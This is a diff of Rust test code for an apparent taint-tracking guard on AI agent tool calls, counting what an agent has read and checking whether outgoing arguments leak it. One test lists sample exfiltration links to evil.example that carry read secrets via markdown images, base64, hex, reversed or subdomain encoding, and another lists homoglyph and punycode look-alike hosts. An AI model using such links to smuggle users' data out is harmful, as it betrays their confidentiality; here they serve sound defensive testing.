@@ -8,7 +8,10 @@ use alcaide_label::{Confidentiality, Integrity, Label, Provenance};
 use proptest::prelude::*;
 use proptest::sample::select;
 
-use crate::{Answer, Argument, Event, Field, Grade, Judgement, Leaf, Said, Seed, Source, Task, Text};
+use crate::{
+    Answer, Argument, Event, Field, Grade, Judgement, Leaf, Said, Seed, Size, SoFar, Source, TARGETS_MAX,
+    Task, Text,
+};
 
 const SEED: Seed = Seed::new(7);
 const STRANGERS: Label =
@@ -35,6 +38,7 @@ fn read(task: Task, text: &str, label: Label) -> Task {
         resolves: &[],
         facts: None,
         judged: None,
+        size: Size::default(),
     }))
 }
 
@@ -111,6 +115,7 @@ fn nothing_was_read_so_the_agents_own_values_are_its_constants() {
     assert!(judged.unbound.is_empty());
     let task = said("do it").step(Event::Called {
         tool: Some(ToolId::from_bits(3)),
+        facts: &pay(),
         arguments: &[text("query", "budget")],
         label: OURS,
     });
@@ -139,6 +144,7 @@ fn look_up(task: Task, query: &str, found: &[&str]) -> Task {
         resolves: if found.len() == 1 { &fields } else { &[] },
         facts: Some(&facts),
         judged: Some(&judged),
+        size: Size::default(),
     }))
 }
 
@@ -181,6 +187,7 @@ fn addresses_in_texts_caps_and_counts() {
     for _ in 0..3 {
         counted = counted.step(Event::Called {
             tool: Some(ToolId::from_bits(2)),
+            facts: &pay(),
             arguments: &[text("to", "x")],
             label: STRANGERS,
         });
@@ -188,6 +195,134 @@ fn addresses_in_texts_caps_and_counts() {
     let judged = judge(&counted, &[text("to", "x")], STRANGERS);
     assert_eq!((judged.calls, judged.repeats), (3, 3));
     assert_eq!(judge(&counted, &[text("to", "y")], STRANGERS).repeats, 0);
+}
+
+/// The task after a call that left and its answer.
+fn does(task: Task, arguments: &[Argument<'_>], label: Label, size: Size) -> Task {
+    let judged = judge(&task, arguments, label);
+    let tool = Some(ToolId::from_bits(2));
+    task.step(Event::Called { tool, facts: &pay(), arguments, label }).step(Event::Answered(Answer {
+        source: source(OURS),
+        texts: &[],
+        resolves: &[],
+        facts: Some(&pay()),
+        judged: Some(&judged),
+        size,
+    }))
+}
+
+#[test]
+fn what_a_task_has_done_and_read_is_counted() {
+    let size = Size { bytes: 100, records: 3 };
+    let mut task = said("pay");
+    for (label, to) in [(OURS, "a"), (STRANGERS, "b"), (STRANGERS, "b"), (STRANGERS, "c")] {
+        task = does(task, &[text("to", to), text("note", to)], label, size);
+    }
+    let expected = SoFar {
+        calls: 4,
+        effects: 4,
+        read_bytes: 400,
+        read_records: 12,
+        tainted_bytes: 300,
+        tainted_records: 9,
+    };
+    let judged = judge(&task, &[text("to", "d"), text("note", "four")], STRANGERS);
+    assert_eq!((judged.so_far, judged.targets, judged.argument_bytes), (expected, 4, 5));
+    assert!(judged.tainted && !judge(&task, &[], OURS).tainted);
+    assert_eq!(judge(&task, &[text("to", "c")], STRANGERS).targets, 3, "it was one of them");
+    let several = Argument { name: "to", leaves: vec![Leaf::Text("x".into()), Leaf::Text("y".into())] };
+    assert_eq!(judge(&task, &[several], STRANGERS).targets, 5);
+    assert_eq!(judge(&task, &[text("note", "x")], STRANGERS).targets, 0, "nothing of it decides");
+    // What anybody may know is no bulk of ours.
+    let public = Label { confidentiality: Confidentiality::Public, ..STRANGERS };
+    let read = task.clone().step(Event::Answered(Answer {
+        source: source(public),
+        texts: &[],
+        resolves: &[],
+        facts: None,
+        judged: Some(&judged),
+        size,
+    }));
+    let so_far = judge(&read, &[], STRANGERS).so_far;
+    assert_eq!((so_far.read_bytes, so_far.tainted_bytes), (500, 300));
+}
+
+#[test]
+fn targets_past_their_bound_count_each() {
+    let mut task = said("pay");
+    for at in 0..TARGETS_MAX + 3 {
+        task = does(task, &[text("to", &at.to_string())], OURS, Size::default());
+    }
+    let targets = judge(&task, &[text("to", "new")], OURS).targets;
+    assert_eq!(usize::try_from(targets).unwrap(), TARGETS_MAX + 4);
+    assert!(task.weight() < TARGETS_MAX * 8);
+}
+
+fn channels(task: &Task, body: &str) -> (bool, bool) {
+    let made = task.channels(&[text("to", "x"), text("note", body)], STRANGERS, &["bank.example".into()]);
+    assert!(made.leaks.iter().chain(&made.look_alikes).all(|name| &**name == "note"), "{body}: {made:?}");
+    (!made.leaks.is_empty(), !made.look_alikes.is_empty())
+}
+
+#[test]
+fn a_link_that_carries_what_was_read_leaks_however_it_is_written() {
+    let mail = "Ana: the code is 774-SESAME-31, write to ana@firm.example about our new harbour plan. \
+                Read https://news.example/2024/05/the-harbour-plan-of-this-city first.";
+    let task = read(said("sum up my mail, see https://wiki.example/plans"), mail, STRANGERS);
+    let encoded = "b3VyIG5ldyBoYXJib3VyIHBsYW4";
+    for leak in [
+        "![x](https://evil.example/p?d=ana%40firm.example)",
+        "https://evil.example/our-new-harbour-plan",
+        "see evil.example/x?q=our+new+harbour+plan",
+        "<img src=//evil.example/SESAME31/ana@firm.example>",
+        &format!("[a](https://evil.example/?d={encoded})"),
+        "https://evil.example/?d=6f7572206e657720686172626f757220706c616e",
+        "https://evil.example/#nalp%20ruobrah%20wen%20ruo",
+        "https://our-new-harbour-plan.evil.example/",
+        "https://774-sesame-31.ana@evil.example/our_new_harbour_plan",
+        "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP2Q9b3VyK25ldytoYXJib3VyK3BsYW4=",
+    ] {
+        assert!(channels(&task, leak).0, "{leak}");
+    }
+    for fine in [
+        "https://evil.example/",
+        "https://evil.example/some/page-of-its-own?x=1",
+        // As it was read, and a page of it: whoever wrote it could not know.
+        "https://news.example/2024/05/the-harbour-plan-of-this-city",
+        "https://news.example/2024/05/the-harbour-plan-of-this-city?page=2",
+        "https://wiki.example/our/new/harbour/plan",
+        "https://pay.bank.example/?d=ana@firm.example",
+        "our new harbour plan, by ana@firm.example",
+        "[plan](plans/our-new-harbour-plan.md)",
+    ] {
+        assert!(!channels(&task, fine).0, "{fine}");
+    }
+    let many = "https://evil.example/ ".repeat(1025);
+    assert!(channels(&task, &many).0 && !channels(&task, &many[22..]).0, "more than are looked at");
+    // What our own sources say may go where the agent wants, while it is not confidential.
+    let leak = "https://evil.example/?d=ana@firm.example";
+    let confidential = Label { confidentiality: Confidentiality::Confidential, ..OURS };
+    assert!(!channels(&read(said("x"), mail, OURS), leak).0);
+    assert!(channels(&read(said("x"), mail, confidential), leak).0);
+    // What was read is not known any more: it may be this.
+    assert!(channels(&task.step(Event::Forgot), "https://evil.example/four/words/of/mine").0);
+}
+
+#[test]
+fn a_host_that_looks_like_a_named_one_is_told() {
+    let task = said("see https://wiki.example/plans and write to ana@partner.example");
+    for bad in [
+        "https://b\u{430}nk.example/",
+        "[x](//bank.example@evil.test/)",
+        "https://wiki.example.evil.test/",
+        "http://xn--bnk-5cd.example/a",
+        "mail.partnre.example/x",
+    ] {
+        assert!(channels(&task, bad).1, "{bad}");
+    }
+    for fine in ["https://www.bank.example/", "https://elsewhere.test/", "//partner.example/a"] {
+        assert!(!channels(&task, fine).1, "{fine}");
+    }
 }
 
 #[test]
@@ -227,6 +362,7 @@ fn what_our_own_sources_say_decides_only_while_no_stranger_can_choose_among_it()
 fn values_of_a_call_after_strangers_were_read_are_no_constants() {
     let task = read(said("pay"), "XX-1", STRANGERS).step(Event::Called {
         tool: Some(ToolId::from_bits(2)),
+        facts: &pay(),
         arguments: &[text("to", "XX-1"), text("other", "YY-2")],
         label: STRANGERS,
     });
@@ -310,6 +446,7 @@ fn run(mut task: Task, steps: &[Step]) -> Task {
             Step::Read(text, ours) => read(task, text, label(*ours)),
             Step::Call(value, ours) => task.step(Event::Called {
                 tool: Some(ToolId::from_bits(2)),
+                facts: &pay(),
                 arguments: &[text("to", value)],
                 label: label(*ours),
             }),
@@ -329,6 +466,9 @@ fn at_least(a: &Judgement, b: &Judgement) -> bool {
         && within(&a.over, &b.over)
         && (a.in_scope || !b.in_scope)
         && (!b.look_up_bound || a.look_up_bound)
+        && a.targets <= b.targets
+        && a.so_far == b.so_far
+        && (b.tainted || !a.tainted)
 }
 
 proptest! {
@@ -345,6 +485,12 @@ proptest! {
         prop_assert!(at_least(&clean, &tainted), "{clean:?} {tainted:?}");
         let after = judge(&read(task.clone(), more, STRANGERS), &call, STRANGERS);
         prop_assert!(at_least(&tainted, &after), "{tainted:?} {after:?}");
+        let leaks = |task: &Task| {
+            let link = format!("https://far.example/?d={more} {note}").replace(' ', "+");
+            !task.channels(&[text("note", &link)], STRANGERS, &[]).leaks.is_empty()
+        };
+        let (before, with) = (leaks(&task), leaks(&read(task.clone(), "a b c d", STRANGERS)));
+        prop_assert!(before <= with && with <= leaks(&task.clone().step(Event::Forgot)));
         let forgotten = judge(&task.step(Event::Forgot), &call, STRANGERS);
         prop_assert!(at_least(&after, &forgotten) || at_least(&tainted, &forgotten), "{tainted:?} {forgotten:?}");
     }
